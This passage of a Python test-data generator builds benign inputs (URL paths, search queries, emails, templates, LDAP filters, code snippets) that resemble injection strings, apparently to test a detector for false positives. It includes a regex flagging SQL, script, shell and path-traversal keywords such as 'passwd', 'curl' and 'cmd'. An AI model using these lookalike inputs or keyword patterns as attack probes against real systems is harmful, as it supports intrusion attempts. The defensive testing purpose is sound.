                pick(["resize", "notify", "ingest"]),
            ),
            True,
        )
    )
    L.append(lambda: FP("/api/items/" + uuid4()))
    L.append(
        lambda: FP(
            "/images/%dx%d/%s.%s"
            % (pick([320, 640, 1280]), pick([240, 480, 720]), hexs(16), pick(["webp", "jpg", "avif"]))
        )
    )
    L.append(lambda: FP("/tiles/%d/%d/%d.png" % (ri(3, 18), ri(0, 9999), ri(0, 9999))))
    L.append(
        lambda: FP(
            "/reports/%d-Q%d/%s.csv" % (ri(2022, 2026), ri(1, 4), pick(["summary", "revenue", "churn", "headcount"]))
        )
    )
    L.append(lambda: FP("/index.php/apps/files/" + pick(["", "?dir=/Documents", "recent"]).split("?")[0], True))
    L.append(lambda: FP("/wp-json/wp/v2/%s/%d" % (pick(["posts", "pages", "media"]), ri(1, 9999))))
    L.append(
        lambda: (
            FP("/wp-admin/admin-ajax.php", True)
            if R.random() < 0.1
            else FP("/%s/%s/edit" % (pick(["admin/users", "admin/orders", "settings/teams"]), ri(1, 9999)))
        )
    )
    L.append(
        lambda: FP(
            "/recipes/%s"
            % pick(
                [
                    "drop-scones",
                    "union-jack-cake",
                    "select-grain-bread",
                    "script-cookies",
                    "exec-lunch-box",
                    "1-2-3-4-cake",
                ]
            )
            + "-"
            + str(ri(1, 99)),
            True,
        )
    )
    L.append(
        lambda: FP(
            "/s3/%s/%s"
            % (
                pick(["media-prod", "uploads-eu"]),
                "%s/%s/%s.%s" % (ri(2020, 2026), "%02d" % ri(1, 12), tok(), pick(["png", "pdf"])),
            )
        )
    )
    L.append(lambda: FP("/u/%s.%s/settings/%s" % (first(), last(), pick(["profile", "security", "notifications"]))))
    L.append(
        lambda: A(
            pick(
                [
                    "/account/billing?tab=invoices",
                    "/dashboard",
                    "/projects/%d/board" % ri(1, 999),
                    "/docs/getting-started#install",
                    "/checkout/shipping",
                    "/inbox?folder=archive",
                ]
            ),
            False,
            ["query", "form", "cookie", "json"],
            param=pick(["next", "return_to", "redirect"]),
        )
    )
    L.append(
        lambda: A(
            "/%s/%s.%s" % (pick(["docs", "content", "kb"]), pick(SLUGS), pick(["md", "mdx", "html"])),
            False,
            ["json", "xml", "query"],
            param="path",
        )
    )
    L.append(
        lambda: A(
            "photos/%d/%s/IMG_%04d.JPG" % (ri(2019, 2026), pick(["trip", "birthday", "garden", "Lisbon"]), ri(1, 9999)),
            True,
            ["multipart", "json", "form"],
            param="relativePath",
        )
    )
    L.append(
        lambda: A(
            "/"
            + "/".join(pick(["app", "v2", "team", "reports", "orders", "%d" % ri(1, 999)]) for _ in range(ri(2, 4))),
            False,
            ["header"],
            hdr=pick(["X-Original-URI", "X-Forwarded-Prefix"]),
        )
    )
    return L


SEARCH = [
    "union station parking",
    "select comfort mattress review",
    "drop table legs replacement",
    "script writing course online",
    "exec chair ergonomic",
    "alert sound iphone 15",
    "onload event react",
    "javascript: void(0) meaning",
    "bash if [ -f file ]",
    "sleep 8 hours benefits",
    "sum(a) where b pandas",
    "1 OR 2 bedroom apartments %s" % "lisbon",
    "&& vs || precedence",
    "../ relative path meaning",
    "etc/passwd file format",
    "<br> vs <br/>",
    "O'Reilly python cookbook",
    "don't starve together",
    "rock 'n' roll hall of fame tickets",
    "c++ vs c#",
    "what is $PATH",
    "x=1 y=2 graph",
    "wait for delay sql server",
    "char siu bao near me",
    "sql injection prevention cheat sheet",
    "cat /proc/cpuinfo explained",
    "how to use sed -i",
    "best <50 euro headphones",
    "100% cotton t-shirt",
    'grep -r "TODO" .',
    "1=1 meaning",
    "%s" % "cmd /c start",
    "python __init__.py purpose",
    "${HOME} vs ~",
    "curl -X POST json example",
    "ping -c 4 google.com not working",
    "document.cookie httponly",
    "jinja {{ }} syntax",
    "what does <%= %> do in rails",
    "ldap (&(objectClass=user)) filter",
    "SELECT DISTINCT vs GROUP BY",
    "ORDER BY 2 DESC meaning",
    "union find algorithm",
    "Ben & Jerry's flavours",
    "nike air max 90 size 42",
    "hotels in Kraków",
    "weather München",
    "東京 ラーメン",
    "café près de moi",
    "xbox series x",
    "how to exit vim",
    "dentist open saturday",
    "tax return deadline 2026",
    "kids rain boots size 11",
    "ipad pro 13 case",
    "cheap flights to porto",
]


SEARCH_FP = re.compile(
    r"(select|union|drop|script|exec|alert|onload|javascript|\|\||&&|\.\./|passwd|<|\$|1=1|wait|sleep|cmd|cookie|{{|\(&|sed |grep|curl|ping|/proc|order by| or |__|')",
    re.I,
)


def g_b_search():
    def one():
        p = pick(SEARCH) + pick(
            ["", "", " " + str(ri(2019, 2026)), " reddit", " pdf", " review", " explained", " example"]
        )
        return A(p, bool(SEARCH_FP.search(p)))

    return [one]


PROSE_OPEN = [
    "Honestly,",
    "Quick update:",
    "Hi team,",
    "So",
    "Heads up -",
    "FWIW,",
    "Not gonna lie,",
    "Hey!",
    "Follow-up:",
    "As discussed on Tuesday,",
]
PROSE_MID = [
    "the new checkout flow is much faster than the old one",
    "I'd rather we drop the legacy export and select a simpler format",
    "the union of both lists still misses a few customers",
    "we should update the onboarding script before the next release",
    "the delivery arrived two days late; the box was fine though",
    "I can't find where to change my shipping address",
    "the hotel's breakfast was great (and the staff were lovely)",
    "the exec team wants a one-page summary by Friday",
    "our alert thresholds are too noisy at night",
    "the 'Reset password' email lands in spam for Outlook users",
    "either option works for me - pick whichever is cheaper",
    "I ordered the 6' x 9' rug and it's closer to 5'10\"",
    "the battery lasts about 2-3 days with moderate use",
    "the café on 5th & Main has moved to Elm St.",
    "this is the third time I've asked; please escalate",
    "it's 50/50 whether we ship this sprint",
    "please don't delete my account - I just want to pause it",
    'the tutorial\'s step 4 ("run the script") fails on Windows',
]
PROSE_END = [
    "Thanks!",
    "Cheers, %s",
    "Let me know if that makes sense.",
    "5/5 would recommend.",
    ":)",
    "Best regards, %s",
    "-- %s",
    "Any ideas?",
    "(Sorry for the long message.)",
    "Have a good weekend!",
]


def prose():
    s = (
        pick(PROSE_OPEN)
        + " "
        + pick(PROSE_MID)
        + pick([".", "!", "...", ";"])
        + " "
        + pick(PROSE_MID).capitalize()
        + ". "
        + pick(PROSE_END)
    )
    return s.replace("%s", first().title())


def g_b_prose():
    L = []
    L.append(lambda: A(prose(), False))
    L.append(lambda: A(prose() + "\n\n" + prose(), True))
    L.append(
        lambda: A(
            pick(
                [
                    "Ich habe die Bestellung #%d erhalten, aber ein Teil fehlt. Können Sie bitte nachsehen?",
                    "Muy buen servicio, el pedido %d llegó antes de lo previsto. ¡Gracias!",
                    "Commande n° %d : le colis est arrivé abîmé, que dois-je faire ?",
                    "注文番号%dの配送状況を教えてください。",
                    "Zamówienie %d dotarło w dobrym stanie, polecam!",
                ]
            )
            % ri(10000, 99999),
            False,
        )
    )
    L.append(lambda: A("Review: %d/5. %s" % (ri(1, 5), prose()), False))
    L.append(
        lambda: A(
            "Pros: %s. Cons: %s. Verdict - %s."
            % (
                pick(["solid build", "great battery", "quiet", "easy setup"]),
                pick(["pricey", "app is clunky", "no USB-C", "heavy"]),
                pick(["worth it", "meh", "return it", "buy on sale"]),
            ),
            False,
        )
    )
    L.append(
        lambda: A(
            "Re: %s\n\n> %s\n\n%s" % (pick(["Delivery times", "Invoice question", "Team offsite"]), prose(), prose()),
            True,
        )
    )
    L.append(
        lambda: A(
            'Step 1: open Settings > Billing. Step 2: select "Update card". Step 3: click Save; if it fails, drop us a line at support.',
            True,
        )
    )
    L.append(
        lambda: A(
            "Agenda (%s): 1) status; 2) budget - cut or keep?; 3) AOB. Bring numbers, not vibes. <3" % date(), True
        )
    )
    return L


def g_b_richtext():
    L = []
    P = lambda: prose().replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    L.append(lambda: A("<p>%s</p><p><strong>%s</strong></p>" % (P(), pick(["Thanks!", "Important:", "Update"])), False))
    L.append(
        lambda: A(
            "<ul><li>%s</li><li>%s</li><li><em>%s</em></li></ul>"
            % (pick(WORDS).title(), pick(WORDS).title(), pick(WORDS)),
            False,
        )
    )
    L.append(
        lambda: A(
            '<p>See <a href="https://%s/%s" target="_blank" rel="noopener noreferrer">%s</a> for details.</p>'
            % (pick(LEGIT_HOSTS), tok(), pick(["the docs", "this article", "our FAQ"])),
            True,
        )
    )
    L.append(
        lambda: A(
            '<p><img src="https://cdn.%s/uploads/%s.jpg" alt="%s" width="%d" height="%d"></p>'
            % (
                pick(["shopify.com", "northwind-labs.io", "harborline.co"]),
                tok(),
                pick(["Product photo", "Team at the offsite", "Diagram"]),
                ri(200, 1200),
                ri(200, 900),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            '<iframe width="560" height="315" src="https://www.youtube.com/embed/%s" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>'
            % "".join(R.choice(string.ascii_letters + string.digits + "-_") for _ in range(11)),
            True,
        )
    )
    L.append(
        lambda: A(
            '<p><span style="color: rgb(%d, %d, %d); font-size: %dpx;">%s</span></p>'
            % (ri(0, 255), ri(0, 255), ri(0, 255), ri(12, 24), P()),
            True,
        )
    )
    L.append(
        lambda: A(
            "<table><thead><tr><th>Item</th><th>Qty</th></tr></thead><tbody><tr><td>%s</td><td>%d</td></tr><tr><td>%s</td><td>%d</td></tr></tbody></table>"
            % (
                pick(PRODUCTS).replace("&", "&amp;").replace('"', "&quot;"),
                ri(1, 9),
                pick(PRODUCTS).replace("&", "&amp;").replace('"', "&quot;"),
                ri(1, 9),
            ),
            False,
        )
    )
    L.append(
        lambda: A(
            '<p>To embed it, paste <code>&lt;script src="https://widget.%s/v%d.js"&gt;&lt;/script&gt;</code> before <code>&lt;/body&gt;</code>.</p>'
            % (pick(["northwind-labs.io", "orbitcart.io"]), ri(1, 3)),
            True,
        )
    )
    L.append(
        lambda: A(
            '<h2>%s</h2><p class="ql-align-center">%s</p><blockquote>%s</blockquote>'
            % (pick(["Release notes", "What changed", "Q&amp;A"]), P(), P()),
            False,
        )
    )
    L.append(
        lambda: A(
            '<div data-block-id="%s" data-type="%s"><p>%s</p></div>'
            % (uuid4(), pick(["paragraph", "callout", "quote"]), P()),
            False,
        )
    )
    L.append(
        lambda: A(
            "<p>Hello %s,<br>your order <b>#%d</b> has shipped.<br><br>Kind regards,<br>%s</p>"
            % (first().title(), ri(1000, 99999), pick(COMPANIES).replace("&", "&amp;")),
            False,
        )
    )
    L.append(
        lambda: A(
            '<p><a href="mailto:%s?subject=%s">Email us</a> or call <a href="tel:+1555%07d">+1 555 %07d</a></p>'
            % ((lambda e, s, n: (e, s, n, n))(email_addr(), quote(pick(["Order question", "Hello"])), ri(0, 9999999))),
            True,
        )
    )
    L.append(
        lambda: A(
            '<pre><code class="language-%s">%s</code></pre>'
            % (
                pick(["bash", "sql", "js"]),
                pick(
                    [
                        "ls -la | grep .log",
                        "SELECT id FROM orders WHERE total &gt; 100;",
                        "document.querySelector('#app')",
                    ]
                ),
            ),
            True,
        )
    )
    return L


def g_b_markdown():
    L = []
    L.append(
        lambda: A(
            "## %s\n\n%s\n\n- [ ] %s\n- [x] %s\n"
            % (
                pick(["Summary", "Steps to reproduce", "Notes"]),
                prose(),
                pick(["write tests", "update docs", "ping design"]),
                pick(["fix typo", "bump deps"]),
            ),
            False,
        )
    )
    L.append(
        lambda: A(
            "To reproduce:\n\n```bash\n%s\n```\n\nExpected: %s\nActual: %s"
            % (
                pick(
                    [
                        "npm ci && npm test",
                        "make build && ./bin/server --port 8080",
                        "docker compose up -d db\npython manage.py migrate",
                        "curl -s https://api.%s/health | jq ." % pick(APP_HOSTS),
                    ]
                ),
                pick(["200 OK", "a green build", "the page loads"]),
                pick(["502", "timeout after 30s", "blank page"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            'See [the docs](https://docs.%s/%s) and ![diagram](https://%s/img/%s.png "Architecture")'
            % (pick(APP_HOSTS[:6]), pick(SLUGS), pick(APP_HOSTS), tok()),
            False,
        )
    )
    L.append(
        lambda: A(
            "| Plan | Price | Seats |\n|------|------:|------:|\n| Starter | $%d | %d |\n| Pro | $%d | %d |\n"
            % (ri(5, 20), ri(1, 5), ri(30, 99), ri(10, 50)),
            False,
        )
    )
    L.append(
        lambda: A(
            "> %s\n\n%s **%s** _%s_ `%s`"
            % (
                prose(),
                pick(["Agreed.", "Hmm,", "+1"]),
                pick(["important", "note"]),
                pick(["maybe", "soon"]),
                pick(["--force", "rm -rf node_modules", "SELECT 1", "git rebase -i HEAD~3"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "<details>\n<summary>%s</summary>\n\n```\n%s\n```\n</details>"
            % (
                pick(["Stack trace", "Logs", "Full output"]),
                pick(
                    [
                        "Traceback (most recent call last):\n  File \"app.py\", line %d, in <module>\n    main()\nKeyError: 'user_id'"
                        % ri(10, 400),
                        "Error: ENOENT: no such file or directory, open '/app/config/%s.json'" % pick(WORDS),
                        "java.lang.NullPointerException\n\tat com.acme.OrderService.total(OrderService.java:%d)"
                        % ri(20, 400),
                    ]
                ),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "# %s\n\n1. %s\n2. %s\n3. Profit\n\n---\n*Last updated %s*"
            % (
                pick(WORDS).title() + " " + pick(["runbook", "README", "onboarding"]),
                pick(["Clone the repo", "Install deps"]),
                pick(["Run `make dev`", "Copy `.env.example` to `.env`"]),
                date(),
            ),
            False,
        )
    )
    L.append(
        lambda: A(
            "Fixes #%d. Also closes #%d.\n\n~~old approach~~ new approach: use `Array.prototype.flatMap()` instead of `reduce`. cc @%s"
            % (ri(1, 9999), ri(1, 9999), first()),
            False,
        )
    )
    L.append(
        lambda: A(
            "```sql\nSELECT u.id, u.email, COUNT(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE u.created_at > '%s'\nGROUP BY u.id\nORDER BY orders DESC\nLIMIT %d;\n```"
            % (date(), pick([10, 20, 50, 100])),
            True,
        )
    )
    L.append(
        lambda: A(
            "Footnote test[^1]\n\n[^1]: %s\n\n<!-- TODO: %s -->"
            % (prose(), pick(["add screenshot", "link PR", "ask legal"])),
            True,
        )
    )
    return L


def g_b_code():
    L = []
    L.append(
        lambda: A(
            "def %s(items):\n    return sorted(items, key=lambda x: x[%r])[:%d]\n"
            % (pick(["top_n", "cheapest", "latest"]), pick(["price", "created_at", "score"]), ri(3, 20)),
            False,
        )
    )
    L.append(
        lambda: A(
            "const res = await fetch('/api/v1/%s', {\n  method: 'POST',\n  headers: { 'Content-Type': 'application/json' },\n  body: JSON.stringify({ %s: %d })\n});\nconst data = await res.json();"
            % (pick(["orders", "items", "carts"]), pick(["qty", "page", "limit"]), ri(1, 50)),
            True,
        )
    )
    L.append(
        lambda: A(
            "SELECT id, name, email FROM customers WHERE created_at > '%s' ORDER BY id LIMIT %d;"
            % (date(), pick([10, 50, 100])),
            True,
        )
    )
    L.append(
        lambda: A(
            "UPDATE %s SET status = 'archived' WHERE last_login < NOW() - INTERVAL '%d days';"
            % (pick(["accounts", "projects", "sessions"]), pick([30, 90, 365])),
            True,
        )
    )
    L.append(
        lambda: A(
            "ls -la /var/log/%s | grep -i error | tail -n %d" % (pick(["nginx", "app", "postgresql"]), ri(10, 200)),
            True,
        )
    )
    L.append(
        lambda: A(
            'FROM python:3.%d-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:%d"]'
            % (ri(10, 12), pick([8000, 8080, 5000])),
            True,
        )
    )
    L.append(
        lambda: A(
            'services:\n  db:\n    image: postgres:%d\n    environment:\n      POSTGRES_PASSWORD: example\n    ports:\n      - "5432:5432"\n'
            % ri(13, 17),
            False,
        )
    )
    L.append(
        lambda: A(
            'func %s(ctx context.Context, id string) (*User, error) {\n\tu, err := repo.Find(ctx, id)\n\tif err != nil {\n\t\treturn nil, fmt.Errorf("find user %%s: %%w", id, err)\n\t}\n\treturn u, nil\n}'
            % pick(["GetUser", "LoadUser", "fetchUser"]),
            False,
        )
    )
    L.append(
        lambda: A(
            'public class %s {\n    public static void main(String[] args) {\n        System.out.println("Hello, " + args[0]);\n    }\n}'
            % pick(["Main", "Hello", "App"]),
            False,
        )
    )
    L.append(
        lambda: A(
            "<?php echo htmlspecialchars($%s, ENT_QUOTES, 'UTF-8'); ?>" % pick(["title", "name", "comment"]), True
        )
    )
    L.append(
        lambda: A(
            'Exception in thread "main" java.lang.IllegalStateException: %s\n\tat com.%s.service.%s.run(%s.java:%d)\n\tat java.base/java.lang.Thread.run(Thread.java:%d)'
            % (
                pick(["Queue full", "Not initialized", "Connection pool exhausted"]),
                pick(WORDS),
                (lambda n: n)("Worker"),
                "Worker",
                ri(10, 500),
                ri(800, 1600),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "location /api/ {\n    proxy_pass http://127.0.0.1:%d;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}"
            % pick([3000, 8000, 8080]),
            True,
        )
    )
    L.append(lambda: A("^[a-zA-Z0-9._%%+-]+@[a-zA-Z0-9.-]+\\.[a-zA-Z]{2,%d}$" % ri(4, 10), True))
    L.append(
        lambda: A(
            'git checkout -b %s/%s && git commit -am "%s" && git push -u origin HEAD'
            % (pick(["fix", "feat", "chore"]), pick(SLUGS)[:20], pick(["Fix null check", "Add retry", "Bump version"])),
            True,
        )
    )
    L.append(
        lambda: A(
            'curl -X POST https://api.%s/v1/%s \\\n  -H "Authorization: Bearer $TOKEN" \\\n  -H "Content-Type: application/json" \\\n  -d \'{"name": "%s"}\''
            % (pick(APP_HOSTS[:5]).split(".", 1)[1], pick(["projects", "tags"]), pick(WORDS)),
            True,
        )
    )
    L.append(
        lambda: A(
            "import { useState } from 'react';\n\nexport function Counter() {\n  const [n, setN] = useState(%d);\n  return <button onClick={() => setN(n + 1)}>{n}</button>;\n}"
            % ri(0, 10),
            True,
        )
    )
    L.append(
        lambda: A(
            'fn main() {\n    let v: Vec<u32> = (1..=%d).filter(|x| x %% %d == 0).collect();\n    println!("{:?}", v);\n}'
            % (ri(10, 100), ri(2, 7)),
            False,
        )
    )
    L.append(
        lambda: A(
            'for f in *.%s; do\n  mv "$f" "${f%%.%s}.%s"\ndone'
            % (pick(["jpeg", "txt", "log"]), "x", pick(["jpg", "md", "bak"])),
            True,
        )
    )
    return L


TV_NAME = [
    "first_name",
    "customer.first_name",
    "user.firstName",
    "contact.first_name",
    "recipient.name",
    "name",
    "member.display_name",
]
TV_ORDER = ["order.number", "order.id", "order_number", "order.name", "purchase.ref"]
TV_DATE = ["order.eta", "shipment.delivery_date", "appointment.starts_at", "renewal_date", "event.date"]
TV_THING = ["webinar", "trial", "appointment", "subscription", "reservation", "class", "delivery"]


def g_b_templates():
    L = []
    n = lambda: pick(TV_NAME)
    L.append(
        lambda: A(
            'Hi {{ %s }}, your order #{{ %s }} %s by {{ %s | date: "%s" }}.'
            % (
                n(),
                pick(TV_ORDER),
                pick(["has shipped and should arrive", "is ready for pickup", "will be delivered"]),
                pick(TV_DATE),
                pick(["%b %d", "%d/%m/%Y", "%A"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "{%% for %s in %s %%}{{ %s.%s }} x {{ %s.quantity }} - {{ %s.price | money }}\n{%% endfor %%}"
            % (
                (
                    lambda v: (
                        v,
                        pick(["order.line_items", "cart.items", "items"]),
                        v,
                        pick(["title", "name", "product_title"]),
                        v,
                        v,
                    )
                )(pick(["item", "line", "li"]))
            )
            + pick(["", "Total: {{ order.total | money }}", "Subtotal: {{ cart.total_price | money_with_currency }}"]),
            True,
        )
    )
    L.append(
        lambda: A(
            '<p>Hello ${%s},</p><p>Your %s plan renews on ${subscription.renewalDate?string("%s")}.</p>'
            % (
                pick(["user.firstName", "customer.name", "account.owner"]),
                pick(["Pro", "Team", "Starter", "Business"]),
                pick(["dd MMM yyyy", "yyyy-MM-dd", "MMMM d"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "<p>Dear <%%= @%s.name %%>,</p><p>Your %s <%%= @%s.number %%> is attached.</p>"
            % (
                pick(["user", "customer", "member"]),
                pick(["invoice", "receipt", "statement"]),
                pick(["invoice", "receipt", "doc"]),
            )
            + pick(
                [
                    "",
                    "<p><%= link_to 'View online', invoice_url(@invoice) %></p>",
                    "<p>Questions? Reply to this email.</p>",
                ]
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "{{#if %s}}Use code {{%s.code}} for {{%s.percent}}%% off%s{{else}}%s{{/if}}"
            % (
                (lambda d: (d, d, d))(pick(["discount", "promo", "offer"]))
                + (
                    pick(["!", " your next order.", " until Sunday."]),
                    pick(["Thanks for shopping with us.", "See you soon!", "Happy browsing."]),
                )
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "{{#each %s}}<li>{{this.%s}} ({{this.%s}})</li>{{/each}}"
            % (
                pick(["items", "lineItems", "products", "attendees"]),
                pick(["name", "title", "label"]),
                pick(["qty", "quantity", "role", "price"]),
            ),
            True,
        )
    )
    L.append(lambda: A("Dear *|FNAME|*,\n\n%s\n\n*|LIST:ADDRESSLINE|*\n*|UNSUB|*" % prose(), False))
    L.append(
        lambda: A(
            "Hey %%recipient.%s%%, your %s starts at %%recipient.%s%%."
            % (pick(["first_name", "name"]), pick(TV_THING), pick(["start_time", "time", "slot"])),
            True,
        )
    )
    L.append(
        lambda: A(
            '<a href="{{{%s}}}">%s</a> | <a href="{{{%s}}}">%s</a>'
            % (
                pick(["unsubscribe_url", "unsubscribe_link"]),
                pick(["Unsubscribe", "Opt out"]),
                pick(["preferences_url", "manage_url"]),
                pick(["Preferences", "Manage emails"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            '<span th:text="${%s}">%s</span> <span th:if="${%s}">%s</span>'
            % (
                pick(["order.total", "invoice.amount", "cart.subtotal"]),
                pick(["0.00", "-"]),
                pick(["order.paid", "invoice.settled"]),
                pick(["Paid", "Settled", "Done"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "#if($%s)Hello $%s.name#{else}Hello there#end, your %s is $%s."
            % (
                (lambda u: (u, u))(pick(["user", "customer", "member"]))
                + (pick(["balance", "points total", "credit"]), pick(["balance", "points", "credit"]))
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "Subject: Your {{ site.name }} %s\n\n%s {{ %s }}"
            % (
                pick(["password was changed", "email was updated", "login from a new device"]),
                pick(["If this wasn't you, reset it here:", "Not you? Secure your account:", "Review activity:"]),
                pick(["reset_link", "security_url", "activity_url"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "{%% if customer.tags contains '%s' %%}%s{%% endif %%}"
            % (
                pick(["vip", "wholesale", "newsletter", "beta"]),
                pick(["Free shipping on us!", "Your trade discount is applied.", "Thanks for being an early tester."]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "Hello {%s}, your %s with {%s} is on {date:%%A %%d %%B} at {time}."
            % (pick(["name", "first"]), pick(TV_THING), pick(["provider", "doctor", "stylist", "host"])),
            True,
        )
    )
    L.append(
        lambda: A(
            '<mj-section><mj-column><mj-text>Hi {{%s}}</mj-text><mj-button href="{{%s}}">%s</mj-button></mj-column></mj-section>'
            % (n(), pick(["cta_url", "confirm_url", "tracking_url"]), pick(["Confirm", "Track order", "Get started"])),
            True,
        )
    )
    L.append(
        lambda: A(
            "Order {{ %s }} - {{ items|length }} item{{ items|length|pluralize }} - total {{ total|floatformat:2 }} %s"
            % (pick(["order_id", "order.pk", "ref"]), pick(["EUR", "USD", "GBP"])),
            True,
        )
    )
    L.append(
        lambda: A(
            '{$smarty.now|date_format:"%s"} - Hello {$%s|escape}'
            % (pick(["%Y-%m-%d", "%d.%m.%Y", "%B %e"]), pick(["user.name", "customer.firstname", "name"])),
            True,
        )
    )
    L.append(
        lambda: A("Hi {{%s}},\n\n%s\n\n{{%s}}" % (n(), prose(), pick(["signature", "team_name", "company.name"])), True)
    )
    return L


def g_b_email():
    L = []
    L.append(lambda: A(email_addr(), False, None, param="email"))
    L.append(
        lambda: A(
            "%s+%s@%s" % (first(), pick(["newsletter", "shop", "work", "2026"]), pick(MAIL_DOMAINS)),
            False,
            None,
            param="email",
        )
    )
    L.append(
        lambda: A(
            pick(["o'brien", "d'angelo", "o'neill"])
            + "."
            + first()
            + "@"
            + pick(["example.ie", "example.it", "mail.ie"]),
            True,
            None,
            param="email",
        )
    )
    L.append(lambda: A('"%s" <%s>' % (person(), email_addr()), True, None, param=pick(["from", "reply_to", "to"])))
    L.append(lambda: A("%s, %s" % (email_addr(), email_addr()), True, None, param=pick(["to", "cc"])))
    L.append(lambda: A(person(), False, None, param="name"))
    L.append(
        lambda: A(
            pick(
                [
                    "Re: Invoice #%d - question" % ri(1000, 9999),
                    "Fwd: [URGENT] server down?",
                    "Meeting moved to 3pm (Thu)",
                    "Your receipt from %s" % pick(COMPANIES),
                    "Q: can I change my plan mid-cycle?",
                    "Feedback on v%d.%d" % (ri(1, 5), ri(0, 9)),
                    "Out of office: back on %s" % date(),
                ]
            ),
            True,
            None,
            param="subject",
        )
    )
    L.append(lambda: A("Hi,\r\n\r\n%s\r\n\r\nThanks,\r\n%s" % (prose(), first().title()), True, None, param="message"))
    L.append(
        lambda: A(
            "Hello,\n\nPlease cc: my manager (%s) on the reply. To: whom it may concern - %s\n\nBest,\n%s"
            % (email_addr(), prose(), person()),
            True,
            None,
            param="message",
        )
    )
    L.append(
        lambda: A(
            "%s@%s" % (first(), pick(["xn--bcher-kva.example", "münchen.de", "例え.jp"])), True, None, param="email"
        )
    )
    L.append(lambda: A(email_addr(), False, ["header"], hdr="From"))
    L.append(lambda: A(email_addr(), False, ["cookie"], param="remembered_email"))
    L.append(lambda: A("%s <%s>" % (person(), email_addr()), False, None, param="sender"))
    L.append(
        lambda: A(
            "%s.%s@%s" % (first(), last(), pick(["harborline.co", "northwind-labs.io", "lanternpress.com"])),
            False,
            None,
            param="reply_to",
        )
    )
    return L


def g_b_ldap():
    L = []
    DCS = lambda: ",".join(
        "dc=" + x for x in pick([["example", "com"], ["corp", "example", "org"], ["ad", pick(WORDS), "net"]])
    )
    L.append(lambda: A("cn=%s" % person(), True))
    L.append(lambda: A("ou=%s" % pick(["Sales", "Engineering", "Finance", "People", "Support", "Legal"]), True))
    L.append(
        lambda: A(
            "(&(objectClass=person)(sn=%s*))" % last().title()[: ri(2, 5)],
            True,
            ["query", "json", "form", "xml"],
            param="filter",
        )
    )
    L.append(
        lambda: A(
            "(|(cn=%s*)(mail=%s*))" % ((lambda n: (n, n.lower()))(first().title()[: ri(2, 4)])),
            True,
            ["query", "json", "form"],
            param="filter",
        )
    )
    L.append(lambda: A("uid=%s%s,ou=people,%s" % (first()[0], last(), DCS()), True, None, param="dn"))
    L.append(
        lambda: A(
            "%s*" % pick([first().title(), last().title()])[: ri(2, 5)], True, None, param=pick(["q", "search", "name"])
        )
    )
    L.append(lambda: A("department=%s" % pick(["Finance", "R&D", "Customer Success", "HR"]), True))
    L.append(lambda: A("manager=cn=%s,ou=People,%s" % (person(), DCS()), True, None, param="filter"))
    L.append(
        lambda: A(
            "memberOf=cn=%s,ou=Groups,%s" % (pick(["vpn-users", "wiki-editors", "printer-admins", "all-staff"]), DCS()),
            True,
            None,
            param="filter",
        )
    )
    L.append(lambda: A("givenName=%s" % first().title(), False))
    L.append(lambda: A("telephoneNumber=+%d %d %04d" % (ri(1, 49), ri(100, 999), ri(0, 9999)), False))
    L.append(lambda: A(person(), False, None, param=pick(["q", "name", "cn"])))
    L.append(lambda: A("%s.%s" % (first(), last()), False, None, param="uid"))
    L.append(lambda: A(DCS(), True, None, param="base"))
    L.append(
        lambda: A(
            "ou=%s,%s" % (pick(["Contractors", "Interns", "Service Accounts", "Berlin"]), DCS()),
            True,
            ["path", "query", "json"],
            param="base",
            path=pick(["/admin/ldap/browse", "/directory/ou"]),
        )
    )
    L.append(
        lambda: (
            A("(objectClass=groupOfNames)", True, ["json", "query", "cookie"], param="filter")
            if R.random() < 0.3
            else A("(mail=%s)" % email_addr(), True, ["json", "query", "cookie"], param="filter")
        )
    )
    L.append(
        lambda: A(
            "%s %s" % (pick(["Room", "Floor", "Building"]), pick(["4B", "12", "C-3", "North"])),
            False,
            None,
            param=pick(["q", "location"]),
        )
    )
    L.append(lambda: A(first() + last()[0], False, ["header"], hdr="X-Remote-User"))
    return L


def g_b_urls():
    L = []
    L.append(
        lambda: A(
            "https://hooks.slack.com/services/T%s/B%s/%s"
            % (
                "".join(R.choice(string.ascii_uppercase + string.digits) for _ in range(9)),
                "".join(R.choice(string.ascii_uppercase + string.digits) for _ in range(9)),
                "".join(R.choice(string.ascii_letters + string.digits) for _ in range(24)),
            ),
            False,
            None,
            param="webhook_url",
        )
    )
    L.append(
        lambda: A(
            "https://discord.com/api/webhooks/%d/%s" % (ri(10**17, 10**18), b64u(rbytes(48))),
            False,
            None,
            param="webhook_url",
        )
    )
    L.append(
        lambda: A(
            "https://www.youtube.com/watch?v=%s&t=%ds"
            % ("".join(R.choice(string.ascii_letters + string.digits + "-_") for _ in range(11)), ri(0, 900)),
            False,
            None,
            param=pick(["url", "link", "href"]),
        )
    )
    L.append(
        lambda: A(
            "https://github.com/%s/%s/blob/main/%s#L%d-L%d"
            % (
                pick(["acme", "octo-org", "northwind"]),
                pick(["web", "cms", "api"]),
                pick(["src/index.php", "app/models/user.rb", "lib/utils.js", "cmd/server/main.go"]),
                ri(1, 100),
                ri(101, 200),
            ),
            True,
            None,
            param=pick(["url", "link"]),
        )
    )
    L.append(
        lambda: A(
            "https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/%s.min.js"
            % (
                pick(["chart.js", "alpinejs", "dayjs", "htmx.org"]),
                ri(1, 4),
